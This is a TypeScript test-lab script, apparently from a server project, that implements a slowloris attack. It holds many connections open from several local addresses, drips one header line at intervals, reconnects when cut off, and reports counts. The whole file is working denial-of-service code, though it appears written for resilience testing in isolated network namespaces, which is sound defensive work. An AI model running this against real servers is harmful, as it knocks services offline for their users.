// A slowloris attacker for the lab: from each of the given local addresses it keeps `perAddress`
// connections open to HOST:PORT, each sending a request's first lines and then one header line
// every `gapMs`, never finishing; a connection the server closes is opened again after
// `reconnectMs`. Runs for `seconds`, then prints one JSON line of counts.
//   ip netns exec bs-TAG-c1 node --import tsx test/lab/slowloris.ts PLAN_JSON
import { connect, type Socket } from 'node:net';

export interface SlowlorisPlan {
  readonly host: string;
  readonly port: number;
  readonly addresses: readonly string[];
  readonly perAddress: number;
  readonly gapMs: number;
  readonly reconnectMs: number;
  readonly seconds: number;
}

export interface SlowlorisResult {
  /** Connections the server accepted (TCP handshake done). */
  opened: number;
  /** Connections the server closed (cut at accept, timed out, or made room for another). */
  closedByServer: number;
  /** Most connections open at once. */
  mostOpen: number;
}

function attack(plan: SlowlorisPlan): Promise<SlowlorisResult> {
  const result: SlowlorisResult = { opened: 0, closedByServer: 0, mostOpen: 0 };
  const deadline = Date.now() + plan.seconds * 1000;
  const live = new Set<Socket>();
  const hold = (from: string): void => {
    if (Date.now() > deadline) return;
    const socket = connect({ host: plan.host, port: plan.port, localAddress: from });
    let drip: NodeJS.Timeout | null = null;
    socket.on('connect', () => {
      result.opened++;
      live.add(socket);
      result.mostOpen = Math.max(result.mostOpen, live.size);
      socket.write(`GET /?${from} HTTP/1.1\r\nHost: ${plan.host}\r\n`);
      let n = 0;
      drip = setInterval(() => socket.write(`X-Slow-${n++}: ${'a'.repeat(8)}\r\n`), plan.gapMs);
    });
    socket.on('error', () => undefined);
    socket.on('close', () => {
      if (drip !== null) clearInterval(drip);
      if (live.delete(socket)) result.closedByServer++;
      setTimeout(() => hold(from), plan.reconnectMs);
    });
  };
  for (const address of plan.addresses) for (let i = 0; i < plan.perAddress; i++) hold(address);
  return new Promise((resolve) => setTimeout(() => {
    for (const socket of live) { live.delete(socket); socket.destroy(); }
    resolve(result);
  }, plan.seconds * 1000));
}

attack(JSON.parse(process.argv[2]) as SlowlorisPlan).then(
  (result) => { process.stdout.write(`${JSON.stringify(result)}\n`); process.exit(0); },
  (err: Error) => { process.stderr.write(`slowloris: ${err.stack ?? err.message}\n`); process.exit(1); },
);
